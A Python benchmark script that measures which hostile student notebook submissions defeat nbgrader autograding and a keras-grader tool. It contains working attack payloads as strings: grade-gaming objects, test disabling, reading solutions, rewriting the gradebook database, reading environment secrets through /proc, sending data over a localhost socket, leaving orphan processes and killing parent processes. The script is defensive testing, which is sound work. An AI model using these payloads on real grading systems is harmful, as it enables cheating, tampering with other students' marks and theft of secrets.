"""What submissions can do to plain `nbgrader autograde`, and to keras-grader, on this machine.

    python tests/benchmarks/attacks_nbgrader.py [NAME ...]    # of attacks; all if none is named

Each attack is a notebook in a class; beside it are one that is right and two that are wrong.
Three ways grade the same notebooks: nbgrader alone with asserts in its test cell, nbgrader
with keras-grader's preprocessor, and `grade cohort`. What an attack has reached is looked at
from outside: marks, files, processes, connections. Those that end whoever is above them have
a class of their own. HOME is a folder of this run's, and what is taken is given back.
Do not run it where somebody else's work would suffer: one attack takes 5.5 GB for a moment.
"""

from __future__ import annotations

import csv
import datetime
import os
import platform
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from dataclasses import dataclass
from importlib.metadata import version
from pathlib import Path

import nbformat
from nbformat import NotebookNode

sys.path.insert(0, str(Path(__file__).parents[1] / "support"))

from nbgrader_class import NbgraderClass, answer

from grader.catalogue import find
from grader.notebook.steps import LOAD
from grader.teaching.nbgrader_course import CONFIG
from grader.teaching.notebooks import lesson_name, notebook_name

EXERCISE = find("2.2.1")
LESSON, NOTEBOOK = lesson_name(EXERCISE.lesson), notebook_name(EXERCISE)
RIGHT = EXERCISE.solution.read_text("utf-8")
WRONG = RIGHT.replace("Dense(64", "Dense(60")
ASSERTS = (
    "assert [layer.units for layer in model.layers] == [128, 64, 32, 4]\n"
    "assert model.layers[-1].activation.__name__ == 'softmax'\n"
    "assert model.loss == 'categorical_crossentropy'\n"
)
SECRET = "the-instructors-token"
SECONDS = 120
"""For each cell, or file: on a busy machine TensorFlow's import takes a while."""
WAYS = ("nbgrader alone", "keras-grader in nbgrader", "grade cohort")


@dataclass(frozen=True)
class Traces:
    """What a run has left: where to look for what an attack has reached."""

    home: Path
    handed_in: Path
    results: Path
    scores: dict[str, float | None]
    connections: list[bytes]

    def full_marks(self, student: str) -> bool:
        """Whether a student has as many points as the one who is right."""
        return bool(self.scores.get(student)) and self.scores[student] == self.scores["a_right"]

    def told(self, words: str) -> bool:
        """Whether words that were put together in a run stand anywhere in the results."""
        return any(words in _text(path) for path in _files(self.results))


@dataclass(frozen=True)
class Attack:
    """A cell, and whether it has reached what it wants; NAME is the student's, too."""

    name: str
    what: str
    code: str
    reached: Callable[[Traces, str], bool]
    answer: str = WRONG


def _full(traces: Traces, student: str) -> bool:
    return traces.full_marks(student)


def _told(words: str) -> Callable[[Traces, str], bool]:
    return lambda traces, _: traces.told(words)


def _no_mark(traces: Traces, student: str) -> bool:
    return traces.scores.get(student) is None


ATTACKS = [
    Attack("equals", "an object that equals everything, as `model`", """
class Yes:
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return self
    def __getitem__(self, index):
        return self
    def __iter__(self):
        return iter([self] * 4)
model = Yes()
""", _full, ""),
    Attack("no_tests", "turns the tests that follow into nothing", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""", _full),
    Attack("takes_solution", "reads the solution and runs it", """
import json
for path in {solutions}:
    try:
        text = open(path).read()
    except OSError:
        continue
    if path.endswith(".ipynb"):
        text = "\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"]
                          if cell["cell_type"] == "code" and cell["metadata"]["nbgrader"]["solution"])
    exec(text)
""", _full),
    Attack("takes_neighbours", "reads what a neighbour has handed in and runs it", """
import glob, json
for path in glob.glob({handed_in} + "/a_right/**/*.ipynb", recursive=True):
    exec("\\n".join("".join(cell["source"]) for cell in json.loads(open(path).read())["cells"]
                    if cell["cell_type"] == "code" and cell["metadata"]["nbgrader"]["solution"]))
""", _full),
    Attack("changes_mark", "changes another student's mark", """
import os, sqlite3
for where, _, names in os.walk({results}):
    for name in names:
        path = os.path.join(where, name)
        if name == "gradebook.db":
            base = sqlite3.connect(path, timeout=20)
            base.execute("update grade set auto_score = 99 where notebook_id in (select sn.id from "
                         "submitted_notebook sn join submitted_assignment sa on sn.assignment_id = "
                         "sa.id join student s on s.id = sa.student_id where s.id = 'a_wrong')")
            base.commit()
        elif name.endswith(".verdict") and "a_wrong" in path:
            open(path, "wb").write(b"owned")
""", lambda traces, _: traces.scores.get("a_wrong") != traces.scores.get("z_wrong")),
    Attack("changes_file", "writes over what a neighbour has handed in", """
import glob
for path in glob.glob({handed_in} + "/a_wrong/**/*.ipynb", recursive=True):
    open(path, "a").write(" \\n" * 7)
""", lambda traces, _: any(
        _text(path).endswith(" \n" * 7) for path in (traces.handed_in / "a_wrong").rglob("*.ipynb"))),
    Attack("home", "writes to the instructor's ~/.profile", """
import os
open({home} + "/.profile", "a").write("owned\\n")
""", lambda traces, _: "owned" in _text(traces.home / ".profile")),
    Attack("cache", "puts a pipe in place of Matplotlib's font list", """
import os
os.makedirs({home} + "/.cache/matplotlib", exist_ok=True)
os.mkfifo({home} + "/.cache/matplotlib/fontlist-attack.json")
""", lambda traces, _: (traces.home / ".cache/matplotlib/fontlist-attack.json").exists()),
    Attack("secret", "reads a secret from the environment", """
import glob, os
words = ["the", "instructors", "token"]
found = "-".join(words) in os.environ.values()
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        found = found or "-".join(words).encode() in open(path, "rb").read()
    except OSError:
        pass
raise RuntimeError("SECRET" + f"-{found}")
""", _told("SECRET-True")),
    Attack("network", "sends something out over TCP", """
import socket
with socket.create_connection(("127.0.0.1", {port}), 5) as sock:
    sock.sendall(b"home")
""", lambda traces, _: b"home" in traces.connections),
    Attack("survives", "leaves a process behind that outlives the run", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "987654"])
    os._exit(0)
""", lambda *_: bool(_survivors())),
    Attack("memory", "takes 5.5 GB", """
import numpy
kept = numpy.ones(5_500_000_000, "uint8")
raise RuntimeError("MEMORY" + f"-{kept[-1]}")
""", _told("MEMORY-1")),
    Attack("output", "prints 50 MB, which are kept", """
for _ in range(50):
    print("x" * 1_000_000)
""", lambda traces, student: sum(
        path.stat().st_size for path in _files(traces.results) if student in str(path)) > 40e6),
    Attack("exits", "`os._exit(0)`: has no mark at all", """
import os
os._exit(0)
""", _no_mark),
    Attack("hangs", "an endless loop, deaf to signals: has no mark at all", """
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
""", _no_mark),
]  # fmt: skip
ENDING = [
    Attack("kills", "ends who is above it: the next student has no mark", """
import os, signal
pids, pid = [], os.getppid()
while pid > 1 and pid != {outside}:
    pids.append(pid)
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        break
for pid in reversed(pids):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""", lambda traces, _: traces.scores.get("z_wrong") is None),
]  # fmt: skip


def main() -> None:
    """Run the three ways, and print the table."""
    reached: dict[str, list[bool]] = {}
    for way in WAYS:
        for group in (ATTACKS, ENDING):
            attacks = [one for one in group if one.name in sys.argv[1:] or not sys.argv[1:]]
            if not attacks:
                continue
            with tempfile.TemporaryDirectory() as name:
                traces = _grade(way, attacks, Path(name))
                _expect_graded(way, traces, ending=group is ENDING)
                for attack in attacks:
                    has = attack.reached(traces, f"m_{attack.name}")
                    reached.setdefault(attack.what, []).append(has)
            for pid in _survivors():
                os.kill(pid, signal.SIGKILL)
        print(f"{way} is done", file=sys.stderr)
    print(f"| attack | {' | '.join(WAYS)} |\n|---|---|---|---|")
    for what, found in reached.items():
        words = ["**reached**" if one else "held" for one in found]
        print(f"| {what} | {' | '.join(words)} |")
    count = [sum(column) for column in zip(*reached.values(), strict=True)]
    print(f"| reached, of {len(reached)} | {' | '.join(map(str, count))} |")
    names = ("nbgrader", "keras-grader", "keras", "tensorflow")
    packages = ", ".join(f"{name} {version(name)}" for name in names)
    print(
        f"\n{datetime.date.today()}, {os.cpu_count()} cores, {platform.system()} "
        f"{platform.release().partition('-')[0]}, {'root' if os.getuid() == 0 else 'a user'}, "
        f"Python {platform.python_version()}, {packages}"
    )


def _grade(way: str, attacks: list[Attack], folder: Path) -> Traces:
    """Let a class be graded in one of the three ways."""
    home = folder / "home"
    home.mkdir()
    course = NbgraderClass(folder / "course")
    cohort = way == WAYS[2]
    if way == WAYS[0]:
        _make_plain(course)
    course.setting(f"c.ExecutePreprocessor.timeout = {SECONDS}")
    if way == WAYS[1]:
        course.setting(f"c.KerasGrader.timeout = {SECONDS}")
    for path in (course.root / "source" / LESSON).iterdir():
        if path.name != NOTEBOOK:
            path.unlink()
    course.release(EXERCISE.lesson)
    handed_in = folder / "class" if cohort else course.root / "submitted"
    results = folder / "out" if cohort else course.root
    connections: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=_listen, args=(server, connections), daemon=True).start()
        facts: dict[str, object] = {
            "solutions": [str(course.root / "source" / LESSON / NOTEBOOK), str(EXERCISE.solution)],
            "handed_in": str(handed_in), "results": str(results), "home": str(home),
            "port": server.getsockname()[1], "outside": os.getpid(),
        }  # fmt: skip
        if way == WAYS[0]:
            facts["solutions"] = [str(course.root / "source" / LESSON / NOTEBOOK)]
        students = {"a_right": RIGHT, "a_wrong": WRONG, "z_wrong": WRONG}
        notebooks = {
            name: answer(course.released(EXERCISE), text) for name, text in students.items()
        }
        for attack in attacks:
            code = attack.code
            for name, fact in facts.items():
                code = code.replace(f"{{{name}}}", repr(fact))
            notebooks[f"m_{attack.name}"] = _with_code(course.released(EXERCISE), attack, code)
        for student, notebook in notebooks.items():
            target = handed_in / student / (NOTEBOOK if cohort else f"{LESSON}/{NOTEBOOK}")
            target.parent.mkdir(parents=True)
            nbformat.write(notebook, target)
        command = (
            ["grader", "cohort", "class", "--out", "out", "--jobs", "1", "--timeout", str(SECONDS)]
            if cohort
            else ["nbgrader", "autograde", LESSON]
        )
        subprocess.run(
            [sys.executable, "-m", *command],
            cwd=folder if cohort else course.root,
            env={
                **os.environ, "HOME": str(home), "TOKEN": SECRET, "GRADER_NO_SERVER": "1",
                "XDG_CACHE_HOME": str(home / "caches"),
            },
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            stdin=subprocess.DEVNULL,
            start_new_session=True,
            timeout=1800,
            check=False,
        )  # fmt: skip
    return Traces(home, handed_in, results, _scores(course, results, cohort=cohort), connections)


def _expect_graded(way: str, traces: Traces, *, ending: bool) -> None:
    """Expect that a right answer has more points than a wrong one: else nothing was attacked."""
    scores = traces.scores
    print(f"{way}: {scores}", file=sys.stderr, flush=True)
    if (scores.get("a_right") or 0) <= (scores.get("z_wrong") or 0) and not ending:
        sys.exit(f"{way} tells no right answer from a wrong one")


def _make_plain(course: NbgraderClass) -> None:
    """Take keras-grader out of a course: its settings, and its test cells."""
    (course.root / CONFIG).write_text("c = get_config()\n")
    path = course.root / "source" / LESSON / NOTEBOOK
    notebook = nbformat.read(path, 4)
    for cell in notebook.cells:
        cell.source = cell.source.removeprefix(LOAD).strip()
    notebook.cells[-1].source = ASSERTS
    nbformat.write(notebook, path)


def _with_code(released: NotebookNode, attack: Attack, code: str) -> NotebookNode:
    """Put an attack into the last cell for an answer."""
    notebook = answer(released, attack.answer or WRONG)
    cells = [cell for cell in notebook.cells if cell.metadata.nbgrader.solution]
    if not attack.answer:
        for cell in cells:
            cell.source = ""
    cells[-1].source += f"\n{code}"  # last, so that nothing of the answer undoes it
    return notebook


def _scores(course: NbgraderClass, results: Path, *, cohort: bool) -> dict[str, float | None]:
    if not cohort:
        return {student: score for (student, _), score in course.scores().items()}
    try:
        with (results / "gradebook.csv").open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.DictReader(stream))
    except OSError:
        return {}
    return {row["student"]: float(row["2.2.1"]) if row["2.2.1"] else None for row in rows}


def _listen(server: socket.socket, heard: list[bytes]) -> None:
    try:
        while True:
            connection, _ = server.accept()
            with connection:
                heard.append(connection.recv(100))
    except OSError:
        return


def _survivors() -> list[int]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if path.read_bytes() == b"sleep\0987654\0":
                found.append(int(path.parent.name))
        except OSError:
            continue
    return found


def _files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


def _text(path: Path) -> str:
    try:
        return path.read_text("utf-8", "replace")
    except OSError:
        return ""


if __name__ == "__main__":
    main()
